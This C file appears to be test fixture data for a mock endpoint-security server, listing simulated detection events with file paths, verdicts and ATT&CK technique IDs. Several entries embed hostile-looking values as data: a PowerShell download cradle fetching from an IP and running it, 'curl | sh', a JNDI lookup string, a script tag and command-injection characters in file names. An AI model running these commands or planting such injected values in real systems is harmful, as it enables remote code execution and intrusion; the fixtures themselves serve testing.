#include "mocksrv/deepinstinct/di_story.h"

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

#define HOME      "C:\\Users\\@\\"
#define PREVENTED "PREVENTED"
#define DETECTED  "DETECTED"
#define STATIC    "STATIC_ANALYSIS"

static const struct di_story stories[] = {
	{ DI_WINDOWS, STATIC, "BRAIN", PREVENTED, "NONE", NULL, "ZIP",
	    HOME "Downloads\\Rechnung 2026-11.zip", NULL, NULL, NULL },
	{ DI_WINDOWS, STATIC, "BRAIN", PREVENTED, "VERY_HIGH", "RANSOMWARE",
	    "PE", "c:\\temp\\locker.exe", NULL, "Impact", "T1486" },
	{ DI_WINDOWS, STATIC, "BRAIN", PREVENTED, "HIGH", "BACKDOOR", "EXE",
	    HOME "AppData\\Local\\Temp\\Angebot\u202efdp\u202c.exe", NULL,
	    "Execution", "T1204.002" },
	{ DI_WINDOWS, STATIC, "MALICIOUS_FILE", DETECTED, "MODERATE", "DROPPER",
	    "DLL", "C:\\ProgramData\\sync\\helper.dll", NULL, "Persistence",
	    "T1574.002" },
	{ DI_WINDOWS, STATIC, "DDE_USAGE", PREVENTED, "HIGH", "DROPPER", "DOC",
	    HOME "Desktop\\Vertrag – Entwurf.doc", NULL, "Execution",
	    "T1559.002" },
	{ DI_WINDOWS, STATIC, "BRAIN", PREVENTED, "LOW", NULL, "OFFICE",
	    HOME "Documents\\budget.docm", NULL, NULL, NULL },
	{ DI_WINDOWS, STATIC, "BRAIN", DETECTED, "LOW", NULL, "PPT",
	    HOME "Documents\\発表.ppt", NULL, NULL, NULL },
	{ DI_WINDOWS, STATIC, "BRAIN", PREVENTED, "MODERATE", "DROPPER", "XLS",
	    HOME "Downloads\\Preisliste;'--.xls", NULL, "Execution",
	    "T1059.005" },
	{ DI_WINDOWS, STATIC, "MALICIOUS_FILE", PREVENTED, "HIGH", "BACKDOOR",
	    "RAR", HOME "Downloads\\fotos.rar", NULL, NULL, NULL },
	{ DI_LINUX, STATIC, "BRAIN", PREVENTED, "VERY_HIGH", "BACKDOOR", "JAR",
	    "/opt/app/lib/${jndi:ldap:198.51.100.7}.jar", NULL,
	    "Initial Access", "T1190" },
	{ DI_WINDOWS, STATIC, "BRAIN", DETECTED, NULL, NULL, "SWF",
	    "\\\\192.0.2.44\\share\\old\\player.swf", NULL, NULL, NULL },
	{ DI_MAC, STATIC, "MALICIOUS_FILE", PREVENTED, "NONE", NULL, "EICAR",
	    "/Users/@/Downloads/eicar.com", NULL, NULL, NULL },
	{ DI_CHROME, STATIC, "BRAIN", PREVENTED, "LOW", NULL, "ACTIVE_SCRIPT",
	    "/home/chronos/user/MyFiles/<script>alert(1)<\\script>.js", NULL,
	    "Execution", "T1059.007" },
	{ DI_WINDOWS, STATIC, "BRAIN", PREVENTED, "HIGH", "DROPPER",
	    "HTML_APPLICATION", HOME "Downloads\\%TEMP% & start.hta", NULL,
	    "Defense Evasion", "T1218.005" },
	{ DI_ANDROID, STATIC, "BRAIN", DETECTED, "MODERATE", NULL, "ZIP",
	    "/data/app/com.example.torch/base.apk", NULL, NULL, NULL },
	{ DI_IOS, STATIC, NULL, DETECTED, NULL, NULL, NULL, NULL, NULL, NULL,
	    NULL },
	{ DI_AGENTLESS, STATIC, "BRAIN", DETECTED, "HIGH", "RANSOMWARE", "PE",
	    "/mnt/vol1/public/setup.exe", NULL, NULL, NULL },
	{ DI_WINDOWS, "RANSOMWARE_FILE_ENCRYPTION", "BRAIN", PREVENTED,
	    "VERY_HIGH", "RANSOMWARE", NULL, HOME "AppData\\Roaming\\upd.exe",
	    NULL, "Impact", "T1486" },
	{ DI_WINDOWS, "REMOTE_CODE_INJECTION_EXECUTION", "BRAIN", PREVENTED,
	    "HIGH", NULL, NULL, "C:\\Windows\\System32\\rundll32.exe", NULL,
	    "Defense Evasion", "T1055" },
	{ DI_WINDOWS, "KNOWN_SHELLCODE_PAYLOADS", NULL, PREVENTED, "VERY_HIGH",
	    "BACKDOOR", NULL, "C:\\Windows\\System32\\spoolsv.exe", NULL,
	    "Execution", "T1203" },
	{ DI_WINDOWS, "ARBITRARY_SHELLCODE", NULL, DETECTED, "HIGH", NULL, NULL,
	    HOME "AppData\\Local\\viewer\\viewer.exe", NULL, "Execution",
	    "T1203" },
	{ DI_WINDOWS, "REFLECTIVE_DLL", NULL, PREVENTED, "HIGH", NULL, NULL,
	    "C:\\Windows\\explorer.exe", NULL, "Defense Evasion", "T1620" },
	{ DI_WINDOWS, "REFLECTIVE_DOTNET", NULL, PREVENTED, "MODERATE", NULL,
	    NULL, "C:\\Windows\\Microsoft.NET\\Framework64\\msbuild.exe", NULL,
	    "Defense Evasion", "T1127.001" },
	{ DI_WINDOWS, "AMSI_BYPASS", NULL, PREVENTED, "HIGH", NULL, NULL,
	    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    NULL, "Defense Evasion", "T1562.001" },
	{ DI_WINDOWS, "DIRECT_SYSTEMCALLS", NULL, DETECTED, "MODERATE", NULL,
	    NULL, "C:\\Users\\Public\\sys.exe", NULL, "Execution", "T1106" },
	{ DI_WINDOWS, "CREDENTIAL_DUMP", NULL, PREVENTED, "VERY_HIGH", NULL,
	    NULL, "C:\\Windows\\Temp\\p.exe", NULL, "Credential Access",
	    "T1003.001" },
	{ DI_WINDOWS, "CREDENTIALS_DUMP", NULL, DETECTED, "HIGH", NULL, NULL,
	    NULL, NULL, "Credential Access", "T1003" },
	{ DI_WINDOWS, "SCRIPT_CONTROL_COMMAND", NULL, PREVENTED, "LOW", NULL,
	    NULL, NULL, NULL, "Execution", "T1059" },
	{ DI_WINDOWS, "SCRIPT_CONTROL_PATH", NULL, PREVENTED, "NONE", NULL,
	    "ACTIVE_SCRIPT", "\\\\fs01\\netlogon\\logon.vbs", NULL, "Execution",
	    "T1059.005" },
	{ DI_WINDOWS, "MALICIOUS_POWERSHELL_COMMAND_EXECUTION", "BRAIN",
	    PREVENTED, "HIGH", NULL, NULL, NULL, NULL, "Execution",
	    "T1059.001" },
};

static const struct di_story suspicions[] = {
	{ DI_WINDOWS, "SUSPICIOUS_SCRIPT_EXCECUTION", "BRAIN", DETECTED, NULL,
	    NULL, "ACTIVE_SCRIPT", HOME "Downloads\\Lieferschein.js",
	    "Script started from a mail attachment", "Execution", "T1059.007" },
	{ DI_WINDOWS, "SUSPICIOUS_POWERSHELL_COMMAND_EXECUTION", "BRAIN",
	    PREVENTED, NULL, NULL, NULL, NULL,
	    "powershell -enc \"RQBYAEEATQBQAEwARQA=\"", "Execution",
	    "T1059.001" },
	{ DI_WINDOWS, "SUSPICIOUS_POWERSHELL_COMMAND_EXECUTION", NULL, DETECTED,
	    NULL, NULL, NULL,
	    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
	    "Download cradle: iwr http://198.51.100.9/a|iex",
	    "Command and "
	    "Control",
	    "T1105" },
	{ DI_WINDOWS, "SUSPICIOUS_SCRIPT_EXCECUTION", NULL, PREVENTED, NULL,
	    NULL, "HTML_APPLICATION", HOME "Desktop\\見積.hta",
	    "mshta mit Netzzugriff", "Defense Evasion", "T1218.005" },
	{ DI_WINDOWS, "CREDENTIAL_DUMP", "BRAIN", DETECTED, NULL, NULL, NULL,
	    "C:\\Windows\\System32\\taskmgr.exe", "LSASS read",
	    "Credential Access", "T1003.001" },
	{ DI_WINDOWS, "DIRECT_SYSTEMCALLS", NULL, DETECTED, NULL, NULL, NULL,
	    NULL, NULL, NULL, NULL },
	{ DI_LINUX, "SUSPICIOUS_SCRIPT_EXCECUTION", "MALICIOUS_FILE", DETECTED,
	    NULL, NULL, "ACTIVE_SCRIPT", "/tmp/.x/`id`.sh", "curl | sh",
	    "Execution", "T1059.004" },
	{ DI_MAC, "SUSPICIOUS_SCRIPT_EXCECUTION", "BRAIN", DETECTED, NULL, NULL,
	    "ACTIVE_SCRIPT", "/Users/@/Library/LaunchAgents/com.example.plist",
	    "osascript asks for a password", "Credential Access", "T1056.002" },
};

size_t
di_story_count(void)
{
	return COUNT(stories);
}

const struct di_story *
di_story(size_t i)
{
	return &stories[i];
}

size_t
di_suspicion_count(void)
{
	return COUNT(suspicions);
}

const struct di_story *
di_suspicion(size_t i)
{
	return &suspicions[i];
}
